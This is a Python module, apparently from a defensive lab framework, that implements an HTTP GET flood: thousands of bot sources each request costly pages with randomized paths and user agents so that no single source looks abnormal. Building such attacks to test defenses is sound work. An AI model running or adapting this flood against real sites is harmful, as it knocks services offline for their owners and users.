"""HTTP GET flood of a costly page: tens of thousands of bots, a few requests each, every one asking for
something else. No bot by itself does more than a visitor would."""

from __future__ import annotations

import asyncio
import random

from pydantic import Field

from rempart.lab.attacks.bots import AGENTS, BotParameters, flood
from rempart.lab.attacks.contract import Attack, Order, Sources, Unit
from rempart.lab.attacks.reporting import Tally, own_sender, run_sender
from rempart.lab.clients.connecting import careless_tls


class GetParameters(BotParameters):
    """What is asked for."""

    costly_share: float = Field(default=1.0, ge=0, le=1)
    """The rest are ordinary pages."""


HTTP_GET_FLOOD = Attack(
    name="http-get-flood",
    unit=Unit.REQUESTS,
    summary="GETs of a costly page over TLS from tens of thousands of addresses, few requests each",
    defaults=GetParameters(rate=150, sources=Sources.PREFIXES, v6_share=0.2),
    sender=lambda order: own_sender(order, "http_get_flood"),
)


def carry_out(order: Order, tally: Tally) -> None:
    parameters = GetParameters.model_validate(order.parameters)

    def request(chosen: random.Random) -> bytes:
        if parameters.costly_share < 1 and chosen.random() >= parameters.costly_share:
            path = chosen.choice(order.target.pages)
        else:
            path = chosen.choice(order.target.costly_pages).format(f"{chosen.getrandbits(40):x}")
        return (
            f"GET {path} HTTP/1.1\r\nHost: {order.target.host}\r\nUser-Agent: {chosen.choice(AGENTS)}\r\n"
            "Accept: */*\r\nConnection: keep-alive\r\n\r\n"
        ).encode()

    asyncio.run(flood(order, parameters, tally, careless_tls("http/1.1"), request))


if __name__ == "__main__":
    run_sender(carry_out)
